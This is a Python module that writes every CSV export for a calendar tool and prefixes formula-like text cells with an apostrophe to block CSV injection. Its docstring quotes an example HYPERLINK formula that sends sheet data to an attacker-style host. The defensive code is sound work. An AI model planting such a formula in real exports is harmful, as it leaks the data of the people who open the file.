"""The one CSV writer: every CSV edicalendar prints goes through :func:`csv_text`.

CSV exports are opened in Excel and LibreOffice by comms teams, and a cell that starts like a
formula (`=`, `+`, `-`, `@`, a tab or CR; OWASP "CSV injection") is run as one there:
`=HYPERLINK("http://evil.example/?x="&A1,"Click")` sends the sheet's data away. Text cells that
start that way are written with a leading apostrophe, which both programs show as plain text
(the usual defence); numbers, dates and flags produced by edicalendar itself are written as
they are, so `-1` stays a number.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence

from edicalendar.text import FORMULA_STARTS


def neutralise(cell: str) -> str:
    """`cell` made inert for a spreadsheet: a formula-like start is prefixed with `'`."""
    if cell.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + cell
    return cell


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """CSV (comma separated, `\\n` line ends, minimal quoting) with every text cell neutralised.

    Cells that are `str` are text from data and are neutralised; `int`, `float` and `bool`
    values are edicalendar's own and written with `str()`; None is an empty cell.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([neutralise(h) for h in header])
    for row in rows:
        writer.writerow([_cell(value) for value in row])
    return buffer.getvalue()


def _cell(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, bool | int | float):
        return str(value)
    return neutralise(str(value))


def records_csv(columns: Sequence[str], records: Iterable[Mapping[str, object]]) -> str:
    """JSON records as CSV with `columns` for a header: what `--format csv` prints and the API
    sends. Flags are "yes" or empty, lists are joined by ", ", numbers stay numbers and text
    is neutralised."""
    return csv_text(columns, ([record_cell(r.get(c)) for c in columns] for r in records))


def record_cell(value: object) -> object:
    """One JSON value as a CSV cell (see :func:`records_csv`)."""
    if isinstance(value, bool):
        return "yes" if value else ""
    if isinstance(value, int | float) or value is None:
        return value
    if isinstance(value, list | tuple):
        return ", ".join(str(v) for v in value)
    return str(value)
